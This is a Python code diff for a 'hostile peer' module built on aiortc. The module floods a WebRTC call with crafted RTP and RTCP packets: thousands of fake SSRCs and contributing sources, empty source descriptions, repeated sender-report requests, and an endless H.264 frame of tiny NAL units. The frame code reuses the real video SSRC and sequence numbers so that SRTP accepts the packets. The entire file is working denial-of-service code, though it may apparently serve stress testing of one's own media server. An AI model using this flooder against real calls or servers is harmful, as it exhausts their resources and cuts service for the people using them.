@@ -1,9 +1,11 @@
-"""RTP and RTCP packets of a hostile peer with many sources."""
+"""RTP and RTCP packets of a hostile peer."""
 
 import asyncio
 import random
 import re
 import struct
+from collections.abc import Iterator
+from dataclasses import dataclass
 
 from aiortc import RTCPeerConnection
 from aiortc.rtp import RtpPacket
@@ -15,44 +17,98 @@ PAYLOAD = bytes([0x10, 0x01, 0x00, 0x00]) + bytes(60)
 CSRCS_OF_A_PACKET, CHUNKS_OF_A_PACKET, PACKETS_OF_A_COMPOUND = 15, 31, 4
 
 
-def ssrcs(sources: list[int], payload_type: int):
+# The NAL units of one H.264 packet, of one byte each: supplemental enhancement information.
+UNITS_OF_A_PACKET = 400
+
+
+@dataclass
+class Target:
+    """A call to flood: the payload type of its video, our SSRC of video, one of their SSRCs, and the last packet."""
+
+    payload_type: int
+    own: int
+    theirs: int
+    last: RtpPacket | None = None
+
+    def packet(self, ssrc: int, number: int, payload: bytes = PAYLOAD, marker: int = 1) -> RtpPacket:
+        return RtpPacket(self.payload_type, marker, (1000 + number) % 2**16, 3000 * number, ssrc, payload)
+
+    def report(self, *packets: bytes) -> bytes:
+        """Returns a compound packet that begins with an empty receiver report."""
+        return struct.pack("!BBHI", 0x80, 201, 1, self.own) + b"".join(packets)
+
+
+def random_sources(count: int) -> list[int]:
+    return random.Random(7).sample(range(1, 2**32), count)
+
+
+def ssrcs(target: Target, count: int) -> Iterator[bytes]:
     """Yields some RTP packets of each SSRC."""
     for number in range(PACKETS_OF_EACH):
-        for ssrc in sources:
-            yield RtpPacket(payload_type, 1, 1000 + number, 3000 * number, ssrc, PAYLOAD).serialize()
+        for ssrc in random_sources(count):
+            yield target.packet(ssrc, number).serialize()
 
 
-def csrcs(sources: list[int], payload_type: int):
+def csrcs(target: Target, count: int) -> Iterator[bytes]:
     """Yields RTP packets of the first SSRC with the other SSRCs as contributing sources."""
-    ssrc = sources[0]
-    yield from ssrcs([ssrc], payload_type)
-    for number, start in enumerate(range(1, len(sources), CSRCS_OF_A_PACKET), PACKETS_OF_EACH):
-        packet = RtpPacket(payload_type, 1, 1000 + number, 3000 * number, ssrc, PAYLOAD)
-        packet.csrc = sources[start : start + CSRCS_OF_A_PACKET]
+    ssrc, *others = random_sources(count)
+    for number in range(PACKETS_OF_EACH):
+        yield target.packet(ssrc, number).serialize()
+    for number, start in enumerate(range(0, len(others), CSRCS_OF_A_PACKET), PACKETS_OF_EACH):
+        packet = target.packet(ssrc, number)
+        packet.csrc = others[start : start + CSRCS_OF_A_PACKET]
         yield packet.serialize()
 
 
-def descriptions(sources: list[int], payload_type: int):
-    """Yields RTCP source descriptions without items for all SSRCs except the first one."""
-    report = struct.pack("!BBHI", 0x80, 201, 1, sources[0])
-    compound = report
-    for number, start in enumerate(range(1, len(sources), CHUNKS_OF_A_PACKET), 1):
+def descriptions(target: Target, count: int) -> Iterator[bytes]:
+    """Yields RTCP source descriptions without items for all SSRCs."""
+    sources = random_sources(count)
+    compound = b""
+    for number, start in enumerate(range(0, len(sources), CHUNKS_OF_A_PACKET), 1):
         chunks = [struct.pack("!II", ssrc, 0) for ssrc in sources[start : start + CHUNKS_OF_A_PACKET]]
         compound += struct.pack("!BBH", 0x80 | len(chunks), 202, 2 * len(chunks)) + b"".join(chunks)
         if number % PACKETS_OF_A_COMPOUND == 0:
-            yield compound
-            compound = report
+            yield target.report(compound)
+            compound = b""
 
 
-KINDS = {"ssrcs": ssrcs, "csrcs": csrcs, "descriptions": descriptions}
+def requests(target: Target, count: int) -> Iterator[bytes]:
+    """Yields RTCP requests for a sender report (RFC 6051)."""
+    for _ in range(count):
+        yield target.report(struct.pack("!BBHII", 0x80 | 5, 205, 2, target.own, target.theirs))
+
+
+def units(target: Target, count: int) -> Iterator[bytes]:
+    """Yields packets of one H.264 frame without end, with many tiny NAL units in each (STAP-A, RFC 6184 5.7.1)."""
+    payload = bytes([24]) + struct.pack("!HB", 1, 6) * UNITS_OF_A_PACKET
+    for number in range(count):
+        packet = target.packet(target.own, number, payload, marker=0)
+        # SRTP accepts no number twice, and the packets of a frame have the same time.
+        packet.sequence_number = (target.last.sequence_number + 1 + number) % 2**16
+        packet.timestamp = (target.last.timestamp + 3000) % 2**32
+        yield packet.serialize()
+
+
+KINDS = {"ssrcs": ssrcs, "csrcs": csrcs, "descriptions": descriptions, "requests": requests, "units": units}
 
 
 async def flood(connection: RTCPeerConnection, kind: str, count: int) -> None:
-    """Announces `count` sources, with the payload type of the first negotiated video format."""
-    transport = connection.getSenders()[0].transport
-    payload_type = int(re.search(r"m=video \d+ \S+ (\d+)", connection.localDescription.sdp)[1])
-    sources = random.Random(7).sample(range(1, 2**32), count)
-    for index, packet in enumerate(KINDS[kind](sources, payload_type)):
-        await transport._send_rtp(packet)
+    """Sends `count` items of a kind, without the video that was sent before if they use its SSRC."""
+    video = next(sender for sender in connection.getSenders() if sender.kind == "video")
+    if kind == "units":
+        video.replaceTrack(None)
+        await asyncio.sleep(0.1)
+    theirs = re.search(r"a=ssrc:(\d+)", connection.remoteDescription.sdp)  # none if they send nothing
+    sent = video._RTCRtpSender__rtp_history.values()
+    last = max(sent, key=lambda packet: packet.timestamp, default=None)
+    offered = re.search(r"m=video \d+ \S+ (\d+)", connection.localDescription.sdp)[1]
+    target = Target(
+        payload_type=last.payload_type if last else int(offered),
+        own=video._ssrc,
+        theirs=int(theirs[1]) if theirs else 0,
+        last=last,
+    )
+    for index, packet in enumerate(KINDS[kind](target, count)):
+        await video.transport._send_rtp(packet)
         if index % 50 == 49:
             await asyncio.sleep(0.01)
